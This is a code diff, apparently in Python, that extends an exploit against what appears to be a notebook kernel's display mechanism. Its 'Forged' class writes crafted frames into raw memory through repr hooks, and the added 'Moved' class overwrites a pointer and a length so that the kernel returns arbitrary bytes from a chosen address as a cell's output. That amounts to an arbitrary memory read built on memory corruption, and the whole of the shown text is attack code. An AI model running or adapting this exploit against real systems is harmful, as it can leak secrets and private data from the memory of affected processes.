@@ -29,12 +29,28 @@ class Forged:
     def _repr_html_(self):
         return "mark" * (ROOM // 4)
 
-    def _repr_png_(self):
+    def start(self):
         # Static memory is below the heap: the first place is the reply, not the text that is looked for.
-        start = memory.find(struct.pack("<I", 9) + padded(b"text/html") + b"mark" * 20, 1, readable) - len(
+        return memory.find(struct.pack("<I", 9) + padded(b"text/html") + b"mark" * 20, 1, readable) - len(
             struct.pack("<Ii", 0, 0) + entry(b"text/plain", b"form") + struct.pack("<II", 0, 0))
+
+    def _repr_png_(self):
+        start = self.start()
         size = len(struct.pack("<Ii", 0, 0) + entry(b"text/plain", b"form") + entry(b"text/html", bytes(ROOM)))
         frame = self.frame
         if self.fill:
             frame += field(UNKNOWN, bytes(size - len(frame) - 8))
         memory[start:start + len(frame)] = frame
+
+
+class Moved(Forged):
+    """A value that has the kernel send `length` bytes at `address` as the reply of its cell."""
+
+    def __init__(self, address, length):
+        self.target = address, length
+
+    def _repr_png_(self):
+        start = self.start()
+        # The pointer stands before the size of the static buffer, among the data below it; the length behind the buffer.
+        pointer = memory.find(struct.pack("<II", start, 4096), start - (1 << 20), start)
+        memory[pointer:pointer + 4], memory[start + 4096:start + 4100] = (struct.pack("<I", n) for n in self.target)
